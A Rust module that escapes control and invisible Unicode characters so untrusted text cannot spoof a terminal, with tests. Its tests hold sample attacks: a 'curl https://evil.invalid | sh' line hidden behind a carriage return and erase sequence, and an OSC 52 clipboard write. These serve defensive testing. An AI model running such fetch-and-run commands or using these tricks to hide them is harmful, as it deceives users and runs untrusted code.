//! Text from elsewhere (a template, a registry, a server) as it is shown to
//! a person who decides something on it: every control character and every
//! invisible formatting character written out as an escape (`\r`,
//! `\u{1b}`, `\u{202e}`), so that no carriage return, erase sequence,
//! clipboard write (OSC 52) or right-to-left override can hide or rewrite
//! what is on the screen; and single-line text cut to a bounded length.

use std::fmt::Write as _;

/// How much of a server's message is shown: enough for any real one.
pub const MESSAGE: usize = 512;

/// How much of a name (an item, a vault, a profile) is shown.
pub const NAME: usize = 200;

/// One line of text: newlines and tabs escaped too, at most `max`
/// characters of it shown, the rest counted.
pub fn line(text: &str, max: usize) -> String {
    let mut out = String::new();
    let mut chars = text.chars();
    for (shown, c) in chars.by_ref().enumerate() {
        if shown == max {
            let rest = 1 + chars.count();
            let _ = write!(out, "... ({rest} more characters)");
            return out;
        }
        push(&mut out, c, false);
    }
    out
}

/// Lines of text (code, a diff): each line as [`line`] shows it, but tabs
/// kept and not cut; the lines are split on `\n` only, so a `\r` anywhere
/// is shown.
pub fn lines(text: &str) -> impl Iterator<Item = String> + '_ {
    let text = text.strip_suffix('\n').unwrap_or(text);
    text.split('\n').map(|l| {
        let mut out = String::with_capacity(l.len());
        for c in l.chars() {
            push(&mut out, c, true);
        }
        out
    })
}

/// Many lines, each shown as [`lines`] shows it, joined with `\n`.
pub fn block(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for (i, l) in lines(text).enumerate() {
        if i > 0 {
            out.push('\n');
        }
        out.push_str(&l);
    }
    if text.ends_with('\n') {
        out.push('\n');
    }
    out
}

fn push(out: &mut String, c: char, keep_tab: bool) {
    match c {
        '\t' if keep_tab => out.push(c),
        '\t' => out.push_str("\\t"),
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        c if hidden(c) => {
            let _ = write!(out, "\\u{{{:x}}}", c as u32);
        }
        c => out.push(c),
    }
}

/// Characters a terminal acts on or draws as nothing: C0 and C1 controls,
/// DEL, and Unicode's invisible formatting (bidirectional overrides and
/// isolates, zero-width characters, soft hyphen, line and paragraph
/// separators, the byte-order mark).
fn hidden(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{ad}' | '\u{61c}' | '\u{180e}'
            | '\u{200b}'..='\u{200f}'
            | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}'
            | '\u{feff}'
            | '\u{fff9}'..='\u{fffb}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn controls_that_rewrite_the_screen_are_shown_as_escapes() {
        let hook = "curl https://evil.invalid | sh  # \r\u{1b}[2K| echo welcome";
        assert_eq!(
            line(hook, 200),
            "curl https://evil.invalid | sh  # \\r\\u{1b}[2K| echo welcome"
        );
        // OSC 52 writes the clipboard; a BEL ends it.
        assert_eq!(
            line("\u{1b}]52;c;ZXZpbA==\u{7}", 100),
            "\\u{1b}]52;c;ZXZpbA==\\u{7}"
        );
        assert_eq!(
            line("a\u{202e}b\u{200b}c\u{9b}d\u{7f}", 100),
            "a\\u{202e}b\\u{200b}c\\u{9b}d\\u{7f}"
        );
        assert_eq!(
            line("two\nlines\tand a tab", 100),
            "two\\nlines\\tand a tab"
        );
        assert_eq!(line("plain: ünïcödé, 日本", 100), "plain: ünïcödé, 日本");
    }

    #[test]
    fn a_line_is_cut_at_its_bound_and_says_how_much_is_left() {
        assert_eq!(line("abcdef", 6), "abcdef");
        assert_eq!(line("abcdefg", 6), "abcdef... (1 more characters)");
        let long = "x".repeat(100_000);
        let shown = line(&long, MESSAGE);
        assert!(shown.len() < MESSAGE + 40, "{}", shown.len());
        assert!(shown.ends_with("(99488 more characters)"), "{shown}");
    }

    #[test]
    fn lines_keep_their_breaks_and_tabs_but_show_carriage_returns() {
        let code = "set -e\n\tcurl x | sh # \r\u{1b}[2K| echo hi\r\n";
        let shown: Vec<String> = lines(code).collect();
        assert_eq!(
            shown,
            ["set -e", "\tcurl x | sh # \\r\\u{1b}[2K| echo hi\\r"]
        );
        assert_eq!(block("a\rb\nc\n"), "a\\rb\nc\n");
        assert_eq!(block("no newline at end"), "no newline at end");
    }
}
